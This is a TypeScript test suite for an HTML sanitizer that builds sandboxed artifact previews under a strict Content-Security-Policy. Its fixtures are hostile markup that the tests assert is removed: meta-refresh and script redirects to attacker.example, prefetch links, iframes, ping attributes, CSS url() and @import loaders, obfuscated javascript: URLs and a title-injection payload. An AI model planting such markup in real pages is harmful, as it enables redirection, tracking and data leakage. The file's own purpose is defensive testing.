import { describe, expect, it } from 'vitest';
import { artifactCsp, artifactCspWithScripts, buildArtifactDocument } from './build-artifact-document.js';

const options = { title: 'Sandboxed preview: Chart', lang: 'en', scripts: false };
const build = (html: string, overrides: Partial<typeof options> = {}) => buildArtifactDocument(html, { ...options, ...overrides });
const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html');

describe('buildArtifactDocument', () => {
  it('starts the head with the CSP, then dns-prefetch off, charset, viewport, title and referrer, before any artifact markup', () => {
    const { html } = build('<style>h1{color:red}</style><h1 style="margin:0">Chart</h1>');
    const document = parse(html);
    expect(html.startsWith('<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy"')).toBe(true);
    expect([...document.head.children].map((element) => element.outerHTML)).toEqual([
      `<meta http-equiv="Content-Security-Policy" content="${artifactCsp}">`,
      '<meta http-equiv="x-dns-prefetch-control" content="off">',
      '<meta charset="utf-8">',
      '<meta name="viewport" content="width=device-width, initial-scale=1">',
      '<title>Sandboxed preview: Chart</title>',
      '<meta name="referrer" content="no-referrer">',
      '<style>h1{color:red}</style>',
    ]);
    expect(document.body.innerHTML).toBe('<h1 style="margin:0">Chart</h1>');
  });

  it('writes the exact policies, with inline scripts only when scripts are on', () => {
    expect(artifactCsp).toBe("default-src 'none'; img-src data:; media-src data:; font-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'");
    expect(artifactCspWithScripts).toBe(`${artifactCsp}; script-src 'unsafe-inline'`);
    const on = parse(build('<p>x</p>', { scripts: true }).html);
    expect(on.head.firstElementChild!.getAttribute('content')).toBe(artifactCspWithScripts);
    expect(parse(build('<p>x</p>').html).head.firstElementChild!.getAttribute('content')).not.toContain('script-src');
  });

  it('removes meta refresh in any spelling, anywhere, including in noscript', () => {
    const { html, removed } = build(
      [
        '<head><META HTTP-EQUIV = "Refresh" CONTENT="0;url=https://attacker.example/?d=1"></head>',
        "<body><p>hi</p><meta http-equiv=refresh content='0; URL=https://attacker.example/?d=2'>",
        '<noscript><meta http-equiv=" refresh " content="0;url=https://attacker.example/?d=3"><p>no js</p></noscript>',
        '<svg><meta http-equiv="refresh" content="0;url=https://attacker.example/?d=4"></svg></body>',
      ].join(''),
    );
    expect(html).not.toMatch(/refresh|attacker/i);
    expect(html).toContain('<p>no js</p>');
    expect(html).not.toContain('noscript');
    expect(removed).toEqual(['meta-refresh', 'noscript']);
  });

  it('removes base, links, an own CSP or referrer policy, frames, objects, embeds and ping', () => {
    const { html, removed } = build(
      [
        '<base href="https://attacker.example/"><base target="_top">',
        `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
        '<meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on">',
        ...['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'stylesheet', 'import', 'icon'].map(
          (rel) => `<link rel="${rel}" href="https://attacker.example/${rel}">`,
        ),
        '<iframe src="https://attacker.example/"></iframe><frame src="https://attacker.example/"><object data="https://attacker.example/"></object>',
        '<embed src="https://attacker.example/"><portal src="https://attacker.example/"></portal>',
        '<a href="https://example.com/" ping="https://attacker.example/ping">link</a><img src="data:image/png;base64,AA==" attributionsrc="https://attacker.example/">',
      ].join(''),
    );
    expect(html).not.toContain('attacker');
    expect(html).toContain('<a href="https://example.com/">link</a>');
    expect(parse(html).querySelectorAll('meta[http-equiv]')).toHaveLength(2);
    expect(removed).toEqual(['meta-http-equiv', 'base', 'link', 'embedded-frame', 'ping']);
  });

  it('removes scripts, handlers and javascript: URLs when scripts are off, and keeps them when on', () => {
    const artifact = [
      '<script>location.href = "https://attacker.example/"</script>',
      '<button onclick="go()" ONMOUSEOVER="go()">Go</button>',
      '<a href=" java\tscript:go()">a</a><form action="JAVASCRIPT:go()"></form>',
      '<svg><script>go()</script><a href="javascript:go()"><text>t</text></a></svg>',
      '<template><script>go()</script><img src="data:image/png;base64,AA==" onerror="go()"></template>',
    ].join('');
    const off = build(artifact);
    expect(off.html).not.toMatch(/script>|go\(\)|javascript/i);
    expect(off.html).toContain('<button>Go</button>');
    expect(off.html).toContain('<template><img src="data:image/png;base64,AA=="></template>');
    expect(off.removed).toEqual(['script', 'event-handler', 'javascript-url']);

    const on = build(artifact, { scripts: true });
    expect(on.html).toContain('<script>location.href = "https://attacker.example/"</script>');
    expect(on.html).toContain('onclick="go()"');
    expect(on.removed).toEqual([]);
  });

  it('drops noscript when scripts run, as the frame would never show it', () => {
    const { html } = build('<p>js</p><noscript><p>no js</p></noscript>', { scripts: true });
    expect(parse(html).body.innerHTML).toBe('<p>js</p>');
  });

  it('writes the title as text and the language as an attribute, escaped, over the artifact own', () => {
    const { html } = build('<html lang="xx" onload="go()"><head><title>Theirs</title><meta charset="latin1"></head><body></body></html>', {
      title: '</title><script>alert(1)</script>',
      lang: 'de" onload="x',
    });
    expect(html).toContain('<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>');
    expect(html).toContain('<html lang="de&quot; onload=&quot;x">');
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('Theirs');
    expect(parse(html).querySelectorAll('title, meta[charset]')).toHaveLength(2);
  });

  it('takes every loading URL out of styles and style attributes, and keeps data: URLs', () => {
    const png = 'data:image/png;base64,AA==';
    const { html, removed } = build(
      [
        '<style>@import url("https://attacker.example/import.css");body{background:url(https://attacker.example/bg.png)}</style>',
        `<div style="background-image:image-set(url(https://example.com/a.png) 1x);color:red">x</div><p style="background:url(${png})">p</p>`,
        '<svg><style>rect{fill:u\\72l(https://attacker.example/f.svg#g)}</style><rect style="fill:url(https://attacker.example/fill.svg#g)" width="9"/>',
        '<rect fill="url(https://attacker.example/fill.svg#g)" filter="url(#blur)" width="9"/></svg>',
        '<template><style>p{cursor:url(https://attacker.example/c.png),auto}</style></template>',
      ].join(''),
    );
    expect(html).not.toContain('attacker');
    expect(html).not.toContain('example.com');
    expect(html).toContain('<style>body{background:none}</style>');
    expect(html).toContain('<div style="background-image:none;color:red">x</div>');
    expect(html).toContain(`<p style="background:url(${png})">p</p>`);
    expect(html).toContain('<style>rect{fill:none}</style><rect style="fill:none" width="9"></rect><rect filter="url(#blur)" width="9"></rect>');
    expect(html).toContain('<template><style>p{cursor:none,auto}</style></template>');
    expect(removed).toEqual(['css-url']);
  });

  it('drops a stylesheet or style attribute it cannot read with confidence', () => {
    const { html } = build('<style>a{content:"\\75rl(https://attacker.example/)"}</style><p style="content:\'@import\'">p</p>');
    expect(parse(html).body.innerHTML).toBe('<p>p</p>');
    expect(parse(html).querySelector('style')).toBeNull();
  });

  it('removes resource URLs other than data: from images, sources, media, inputs and SVG, and keeps links', () => {
    const png = 'data:image/png;base64,AA==';
    const { html, removed } = build(
      [
        '<img src="https://attacker.example/img.png" srcset="https://attacker.example/2x.png 2x, https://evil.example/3x.png 3x" alt="a">',
        '<picture><source srcset="https://attacker.example/s.avif" type="image/avif"><img src=" //evil.example/f.png"></picture>',
        `<img src="${png}" srcset="${png} 1x,${png} 2x"><img srcset="${png} 1x, x.png 2x">`,
        '<input type="image" src="https://attacker.example/i.png"><video poster="https://attacker.example/p.png" src="v.mp4"><track src="t.vtt"></video>',
        '<audio src="https://attacker.example/a.mp3" autoplay></audio><table background="https://attacker.example/t.png"></table>',
        '<svg><image href="https://attacker.example/s.png" xlink:href="https://attacker.example/x.png"/><use href="https://attacker.example/s.svg#i"/>',
        '<use href="#icon"/><filter><feImage href="https://attacker.example/fe.png"/></filter><a href="https://example.com/svg"><text>t</text></a></svg>',
        '<math><mi href="https://attacker.example/m">x</mi></math>',
        '<a href="https://example.com/" target="_blank">link</a><map><area href="https://example.com/area"></map>',
      ].join(''),
    );
    expect(html).not.toMatch(/attacker|evil|x\.png|v\.mp4|t\.vtt/);
    expect(html).toContain('<img alt="a">');
    expect(html).toContain(`<img src="${png}" srcset="${png} 1x,${png} 2x"><img>`);
    expect(html).toContain('<use href="#icon"></use>');
    expect(html).toContain('<a href="https://example.com/svg">');
    expect(html).toContain('<a href="https://example.com/" target="_blank">link</a>');
    expect(html).toContain('<area href="https://example.com/area">');
    expect(removed).toEqual(['resource-url']);
  });

  it('removes resource URLs inside templates, noscript and misnested markup too', () => {
    const { html } = build(
      '<template><img src="https://attacker.example/t.png"><svg><image href="https://attacker.example/t.svg"/></svg></template>' +
        '<noscript><img src="https://attacker.example/n.png"></noscript><table><img src="https://attacker.example/m.png"></table>',
    );
    expect(html).not.toContain('attacker');
    expect(parse(html).querySelectorAll('img')).toHaveLength(2);
  });

  it('removes scripts with a URL when scripts are on, and keeps inline ones', () => {
    const { html, removed } = build(
      '<script src="https://attacker.example/external.js"></script><script>go()</script><svg><script href="https://attacker.example/s.js"></script><script xlink:href="data:,go()"></script></svg>',
      { scripts: true },
    );
    expect(html).not.toContain('attacker');
    expect(html).not.toContain('data:,go()');
    expect(parse(html).querySelectorAll('script')).toHaveLength(1);
    expect(html).toContain('<script>go()</script>');
    expect(removed).toEqual(['script']);
  });

  it('replaces a frameset with an empty body and stays stable when parsed again', () => {
    const { html, removed } = build('<frameset><frame src="https://attacker.example/"></frameset>');
    expect(parse(html).body.outerHTML).toBe('<body></body>');
    expect(removed).toContain('embedded-frame');
    const again = buildArtifactDocument(html, options).html;
    expect(parse(again).head.innerHTML).toBe(parse(html).head.innerHTML);
  });
});
